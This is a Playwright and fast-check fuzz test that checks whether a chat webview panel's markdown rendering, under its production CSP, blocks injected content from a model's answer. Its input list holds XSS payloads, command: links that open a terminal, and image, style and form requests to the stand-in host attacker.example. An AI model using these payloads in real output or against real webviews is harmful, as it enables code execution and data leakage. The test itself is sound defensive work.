/**
 * Property-based tests of the panel in Chromium under the production CSP: whatever markdown a
 * model sends, nothing runs, nothing remote loads and no `command:` link is made; whatever is typed,
 * the `@` menu raises no error. Fixed seed and a bounded count in `npm test`; GENOS_FUZZ_RUNS and
 * GENOS_FUZZ_SEED as in test/unit/fuzz.test.ts.
 */
import { strict as assert } from 'node:assert';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import type { Browser } from 'playwright-core';
import type { TurnView } from '../../src/shared/protocol';
import { launchChromium } from '../runner/codeServer';
import { init, openWebview } from './harness';

const seed = Number(process.env.GENOS_FUZZ_SEED ?? 20261203);
const scale = Number(process.env.GENOS_FUZZ_RUNS ?? 1);

/** Pieces an attacker would put in an answer, joined at random with markdown punctuation. */
const hostile = fc.constantFrom(
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"></svg>',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '[x](javascript:window.__pwned=1)',
  '[run](command:workbench.action.terminal.new)',
  '<a href="command:workbench.action.terminal.new">run</a>',
  '![p](https://attacker.example/p.png?c=code)',
  '<img src="https://attacker.example/q.png">',
  '<style>body{background:url(https://attacker.example/s.png)}</style>',
  '<form action="https://attacker.example"><button>x</button></form>',
  '<a href="https://genos.example.com" onclick="window.__pwned=1">ok</a>',
  '```\n',
  '`',
  '\n\n',
  '| a | b |\n|---|---|\n| 1 | 2 |\n',
  '- item\n',
  '1. one\n',
  '> quote\n',
  '# h\n',
  '[r]: javascript:window.__pwned=1\n',
  '[r]',
  '**',
  '<',
  '>',
  '"',
  "'",
  '가나다',
  ' ',
);
const answers = fc.array(hostile, { minLength: 1, maxLength: 14 }).map((parts) => parts.join(''));

let browser: Browser;
before(async () => {
  browser = await launchChromium();
});
after(() => browser.close());

describe('fuzz: the panel under its production CSP', () => {
  it('runs no script, loads nothing remote and makes no command: link, whatever the answer', async () => {
    const view = await openWebview(browser, undefined, { csp: true });
    const errors: string[] = [];
    view.page.on('pageerror', (error) => errors.push(error.message));
    // A remote address may be asked for, and must be refused by the policy, never loaded.
    const remote = (url: string) => !url.startsWith('file:') && !url.startsWith('data:');
    view.page.on('requestfinished', (request) => {
      if (remote(request.url())) errors.push(`loaded ${request.url()}`);
    });
    view.page.on('requestfailed', (request) => {
      if (remote(request.url()) && !/csp/i.test(request.failure()?.errorText ?? '')) {
        errors.push(`asked for ${request.url()}: ${request.failure()?.errorText}`);
      }
    });
    await view.host(init());
    const samples = fc.sample(answers, { seed, numRuns: Math.max(1, Math.round(60 * scale)) });
    for (const [index, answer] of samples.entries()) {
      const id = `f${index}`;
      const turn: TurnView = { id, question: 'q', context: [], answer: '', reasoning: '', status: 'streaming' };
      await view.host({ type: 'turnStarted', turn });
      // In two pieces cut at random, as a stream would bring it.
      const cut = answer.length ? (index * 7919) % answer.length : 0;
      await view.host({ type: 'delta', requestId: id, content: answer.slice(0, cut), reasoning: '' });
      await view.host({ type: 'delta', requestId: id, content: answer.slice(cut), reasoning: '' });
      await view.host({ type: 'turnDone', requestId: id, status: 'done' });
    }
    await view.page.waitForFunction(
      (count) => document.querySelectorAll('.turn:not(.streaming)').length >= count,
      samples.length,
    );
    const found = await view.page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned,
      scripts: document.querySelectorAll('.log script, .log iframe, .log object, .log embed, .log form, .log style')
        .length,
      handlers: Array.from(document.querySelectorAll('.log *')).filter((element) =>
        Array.from(element.attributes).some((attribute) => attribute.name.startsWith('on')),
      ).length,
      // A remote image may stay in the markup: the policy refuses to load it (only img-src is refused).
      refused: (window as unknown as { __violations: string[] }).__violations.filter(
        (violation) => !violation.startsWith('img-src'),
      ),
      links: Array.from(document.querySelectorAll('.log a'))
        .map((a) => a.getAttribute('href') ?? '')
        .filter((href) => /^(javascript|command|vscode|file):/i.test(href.trim())),
    }));
    assert.deepEqual(found, { pwned: undefined, scripts: 0, handlers: 0, refused: [], links: [] }, `seed ${seed}`);
    assert.deepEqual(errors, []);
    await view.page.close();
  });

  it('raises no error in the @ menu, whatever is typed', async () => {
    const view = await openWebview(browser);
    const errors: string[] = [];
    view.page.on('pageerror', (error) => errors.push(error.message));
    await view.host(init());
    const typed = fc.sample(
      fc.array(
        fc.constantFrom('@', 'f', 'i', 'l', 'e', ' ', '\n', '-', '_', '가', '@file', '@sel', 'ArrowDown', 'Escape'),
        { maxLength: 8 },
      ),
      { seed, numRuns: Math.max(1, Math.round(15 * scale)) },
    );
    for (const keys of typed) {
      await view.page.fill('textarea.input', '');
      for (const key of keys) {
        if (key === 'ArrowDown' || key === 'Escape') await view.page.keyboard.press(key);
        else if (key === '\n') await view.page.keyboard.press('Shift+Enter');
        else await view.page.keyboard.type(key);
      }
    }
    assert.deepEqual(errors, [], `seed ${seed}`);
    await view.page.close();
  });
});
